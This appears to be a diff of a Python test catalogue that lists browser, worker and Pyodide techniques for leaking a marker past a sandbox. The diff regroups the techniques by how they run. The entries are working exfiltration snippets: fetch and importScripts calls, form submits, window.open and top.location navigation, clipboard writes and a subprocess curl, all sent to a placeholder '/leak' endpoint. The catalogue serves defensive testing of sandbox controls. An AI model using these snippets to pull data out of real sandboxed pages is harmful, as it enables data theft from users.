@@ -6,6 +6,7 @@ the same names. It ends when its attempt has ended. `seen` is the channel by whi
 through; in the check nothing may arrive by any channel. A way that the control does not let through is unproven.
 """
 
+from collections.abc import Mapping
 from dataclasses import dataclass
 from typing import Literal
 
@@ -15,15 +16,20 @@ Seen = Literal["request", "name", "socket", "kept", "told"]
 the origin finds afterwards; something that another page is told, or that stands in the clipboard or the top page."""
 
 
+Room = Literal["together", "late", "frame", "page"]
+"""Most are tried together. What would stop or spoil others comes later, one after another; what may take its frame
+away has a frame of its own, what may take the page away a page."""
+
+
 @dataclass(frozen=True)
 class Way:
-    """One way. One that is `alone` may take its page away, or stop all else: it has a page, or a time, of its own."""
+    """One way."""
 
     name: str
     place: Place
     code: str
     seen: Seen = "request"
-    alone: bool = False
+    room: Room = "together"
 
 
 FETCH = "fetch(`${%s}/leak?${mark}`)"
@@ -139,7 +145,7 @@ ANYWHERE: dict[str, str | tuple[str, Seen]] = {
 }
 
 # While they last, all else in the worker waits.
-WORKER_WAITS: dict[str, str | tuple[str, Seen]] = {
+WORKER_LATE: dict[str, str | tuple[str, Seen]] = {
     "XMLHttpRequest that waits": XHR_THAT_WAITS,
     "importScripts, own host": "importScripts(`${own}/leak?${mark}`)",
     "importScripts, foreign host": "importScripts(`${other}/leak?${mark}`)",
@@ -241,7 +247,7 @@ FORM = """
   form.action = `${%s}/leak`; form.append(Object.assign(document.createElement('input'), { name: 'q', value: mark }));
   %s
 """
-# What may take the page away.
+# What may take the frame away.
 LEAVING: dict[str, str] = {
     "location =": "location = `${other}/leak?${mark}`",
     "location =, own host": "location = `${own}/leak?${mark}`",
@@ -250,8 +256,6 @@ LEAVING: dict[str, str] = {
     "navigation.navigate": "navigation.navigate(`${other}/leak?${mark}`)",
     "<a> pressed": ANCHOR % ("other", ""),
     "<a> pressed, own host": ANCHOR % ("own", ""),
-    "<a target=_top>": ANCHOR % ("other", "link.target = '_top';"),
-    "<a target=_parent>": ANCHOR % ("other", "link.target = '_parent';"),
     "<a target=_blank>": ANCHOR % ("other", "link.target = '_blank';"),
     "<a download>": ANCHOR % ("own", "link.download = 'x';"),
     "<a ping>": ANCHOR % ("own", "link.ping = link.href; link.href = 'about:blank';"),
@@ -270,7 +274,6 @@ LEAVING: dict[str, str] = {
     "<form> GET": FORM % ("other", "form.submit();"),
     "<form> POST": FORM % ("own", "form.method = 'post'; form.submit();"),
     "<form target=_blank>": FORM % ("other", "form.target = '_blank'; form.submit();"),
-    "<form target=_top>": FORM % ("other", "form.target = '_top'; form.submit();"),
     "<button formaction>": FORM
     % (
         "own",
@@ -282,17 +285,23 @@ LEAVING: dict[str, str] = {
     "window.open": "open(`${other}/leak?${mark}`)",
     "window.open, noopener": "open(`${other}/leak?${mark}`, '_blank', 'noopener')",
     "window.open, the frame itself": "open(`${other}/leak?${mark}`, '_self')",
-    "window.open, the top page": "open(`${other}/leak?${mark}`, '_top')",
     "window.open, a blank page that fetches": """
       const page = open(); page.document.write(`<img src="${other}/leak?${mark}">`);
     """,
-    "top.location =": "top.location = `${other}/leak?${mark}`",
-    "parent.location.replace": "parent.location.replace(`${other}/leak?${mark}`)",
     "javascript: address": "location = `javascript:void fetch('${other}/leak?${mark}')`",
     "blob: page": """
       location = URL.createObjectURL(new Blob([`<img src="${other}/leak?${mark}">`], { type: 'text/html' }));
     """,
     "document.write": "document.open(); document.write(`<img src='${other}/leak?${mark}'>`); document.close();",
+}
+# What may take the page away.
+TAKING: dict[str, str] = {
+    "<a target=_top>": ANCHOR % ("other", "link.target = '_top';"),
+    "<a target=_parent>": ANCHOR % ("other", "link.target = '_parent';"),
+    "<form target=_top>": FORM % ("other", "form.target = '_top'; form.submit();"),
+    "window.open, the top page": "open(`${other}/leak?${mark}`, '_top')",
+    "top.location =": "top.location = `${other}/leak?${mark}`",
+    "parent.location.replace": "parent.location.replace(`${other}/leak?${mark}`)",
     # The last: the observer, who is the opener, goes with it.
     "opener's location =": "top.opener.location = `${other}/leak?${mark}`",
 }
@@ -408,10 +417,9 @@ WINDOW: dict[str, str | tuple[str, Seen]] = {
         "socket",
     ),
 }
-WINDOW_ALONE: dict[str, tuple[str, Seen]] = {
+WINDOW_LATE: dict[str, str | tuple[str, Seen]] = {
     "the clipboard": ("self.focus(); await sleep(100); await navigator.clipboard.writeText(mark)", "told"),
     "the top page's address": ("top.location.hash = mark; await sleep(300)", "told"),
-    **{name: (GOING % code.strip(), "request") for name, code in LEAVING.items()},
 }
 
 # Not here: a lazy file of Emscripten's (an XMLHttpRequest that waits) and its call to eval; refused, they end Pyodide.
@@ -470,11 +478,6 @@ await js.WebTransport.new(f"https://127.0.0.1:{port}/").ready
     "js.importScripts": """
 import js
 js.importScripts(f"{own}/leak?{mark}")
-""",
-    "js.Worker by address": """
-import asyncio, js
-js.Worker.new(f"{own}/leak?{mark}").onerror = lambda event: event.preventDefault()
-await asyncio.sleep(0.7)
 """,
     "js.Worker from a blob": """
 import asyncio, js
@@ -642,17 +645,28 @@ import subprocess
 subprocess.run(["curl", f"{own}/leak?{mark}"])
 """,
 }
+# See WORKER_LATE.
+PYTHON_LATE: dict[str, str | tuple[str, Seen]] = {
+    "js.Worker by address": """
+import asyncio, js
+js.Worker.new(f"{own}/leak?{mark}").onerror = lambda event: event.preventDefault()
+await asyncio.sleep(0.7)
+""",
+}
 
 
-def _ways(place: Place, table: dict[str, str | tuple[str, Seen]], *, alone: bool = False) -> list[Way]:
+def _ways(place: Place, table: Mapping[str, str | tuple[str, Seen]], room: Room = "together") -> list[Way]:
     full = {name: (entry, "request") if isinstance(entry, str) else entry for name, entry in table.items()}
-    return [Way(name, place, code, seen, alone) for name, (code, seen) in full.items()]  # type: ignore[arg-type]
+    return [Way(name, place, code, seen, room) for name, (code, seen) in full.items()]  # type: ignore[arg-type]
 
 
 WAYS = (
     *_ways("script", {**ANYWHERE, **WORKER}),
-    *_ways("script", WORKER_WAITS, alone=True),
+    *_ways("script", WORKER_LATE, "late"),
     *_ways("python", PYTHON),
+    *_ways("python", PYTHON_LATE, "late"),
     *_ways("window", {**ANYWHERE, **WINDOW}),
-    *_ways("window", dict(WINDOW_ALONE), alone=True),
+    *_ways("window", WINDOW_LATE, "late"),
+    *_ways("window", {name: GOING % code.strip() for name, code in LEAVING.items()}, "frame"),
+    *_ways("window", {name: GOING % code.strip() for name, code in TAKING.items()}, "page"),
 )
